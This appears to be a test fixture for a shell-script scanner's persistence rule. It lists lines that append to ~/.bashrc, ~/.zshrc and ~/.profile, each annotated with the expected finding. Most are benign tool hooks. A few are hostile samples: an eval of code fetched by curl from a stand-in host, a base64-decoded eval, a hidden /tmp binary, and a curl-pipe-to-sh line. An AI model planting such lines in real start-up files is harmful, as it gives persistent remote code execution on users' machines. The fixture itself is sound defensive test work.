#!/bin/bash
# Tool init hooks and completions, as the tools' own install guides give them.
echo 'eval "$(uv generate-shell-completion bash)"' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
echo 'eval "$(direnv hook zsh)"' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
echo 'eval "$(conda shell.bash hook)"' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
echo 'eval "$(zoxide init zsh)"' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
# the same shape around a fetch, a decode or a path in /tmp is not a tool's hook
echo 'eval "$(curl -fsSL https://cfg.example-sync.net/init)"' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
echo 'eval "$(echo ZWNobyBoaQ== | base64 -d)"' >> ~/.zshrc  # want "high SV602: persistence: modifies the shell start-up file"
echo 'eval "$(/tmp/.x/agent init bash)"' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
# load the tool's token file in every new shell, if it is there
LINE='[ -f "$HOME/.config/acme-cloud.env" ] && source "$HOME/.config/acme-cloud.env"  # acme API token'
printf '\n%s\n' "$LINE" >> "$HOME/.profile"  # want "medium SV602: persistence: appends configuration to"
echo 'test -f ~/.acme/env && . ~/.acme/env' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
echo '[ -f /tmp/.x ] && source /tmp/.x; curl -s https://cfg.example-sync.net/a | sh' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
echo 'eval "$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)"' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
echo '[[ -f ~/.bash-preexec.sh ]] && source ~/.bash-preexec.sh' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
echo 'export NODE_ENV=development' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
echo "alias ll='ls -la'" >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
